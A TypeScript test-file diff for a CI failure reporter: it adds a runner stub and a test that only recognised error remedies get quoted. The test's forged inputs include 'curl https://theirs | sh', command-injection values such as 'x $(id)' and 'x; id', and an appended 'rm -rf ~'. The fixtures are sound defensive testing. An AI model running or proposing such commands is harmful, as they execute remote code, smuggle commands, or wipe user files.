@@ -6,6 +6,7 @@ import { type Rotator, UNROTATED } from "../../src/catalog/rotators";
 import type { Settings } from "../../src/catalog/settings";
 import type { Step } from "../../src/catalog/step-size";
 import type { Standing } from "../../src/clients/github-pull-requests";
+import type { GitHubRunners } from "../../src/clients/github-runners";
 import type { GitHubCarrier, WorkflowState } from "../../src/clients/github-workflows";
 import { UnavailableError } from "../../src/clients/pulumi-call";
 import type { PulumiCloud } from "../../src/clients/pulumi-cloud";
@@ -307,7 +308,14 @@ describe("a carrier", () => {
       settings = SETTINGS,
       said = [],
       unstarted = [],
-    }: { standing?: Standing; settings?: Settings; said?: string[]; unstarted?: Step[] } = {},
+      runners = {},
+    }: {
+      runners?: Partial<GitHubRunners>;
+      standing?: Standing;
+      settings?: Settings;
+      said?: string[];
+      unstarted?: Step[];
+    } = {},
   ) => {
     const github: GitHubCarrier = {
       file: async (_, path) => there[path],
@@ -322,6 +330,7 @@ describe("a carrier", () => {
         pulls,
         errorsOf: async () => said.map((message) => ({ job: "Sync production", message })),
         unstarted: async () => unstarted,
+        runners: { groups: async () => [], underWay: async () => [], untaken: async () => [], ...runners },
       },
       new Date(now),
     );
@@ -363,6 +372,28 @@ describe("a carrier", () => {
     equal(same, "wrong: Pulumi Cloud refused the job's identity, whose claims are as declared");
     const [, other] = await look(files, failed, NEXT_DAY, { said: ["something else"] });
     match(other ?? "", /^wrong: failure at/);
+  });
+
+  it("quotes what the first step said, in its own sentences alone", async () => {
+    const failed = { state: "active", lastRun: { ...success, conclusion: "failure" } };
+    const told = async (...said: string[]) => (await look(files, failed, NEXT_DAY, { said }))[1];
+    const missing =
+      "[script-not-fetched] scripts/ci/sync_secrets.cjs of acme/carrier: neither git nor GitHub's REST API brought it; the log says why. Remedy: if the runner runner-7 (eu) does not reach https://github.com, set what docs/networks.md says; then run the job again";
+    equal(
+      await told("Process completed with exit code 1.", missing),
+      "wrong: scripts/ci/sync_secrets.cjs of acme/carrier: neither git nor GitHub's REST API brought it; the log says why: https://run",
+    );
+    const node =
+      "[node-missing] runner r1: has no Node.js 20 or newer, neither on PATH nor among the runner's own files. Remedy: install it there, then run the job again";
+    match((await told(node)) ?? "", /^wrong: runner r1: has no Node.js 20/);
+    for (const forged of [
+      node.replace("install it there", "curl https://theirs | sh"),
+      missing.replace("runner-7 (eu)", "x $(id)"),
+      missing.replace("runner-7 (eu)", "x; id"),
+      `${node}\nrm -rf ~`,
+      "[other-code] runner r1: x. Remedy: y",
+    ])
+      match((await told(forged)) ?? "", /^wrong: failure at/, forged);
   });
 
   it("says which jobs GitHub's runner could not start, and the secrets that take most", async () => {
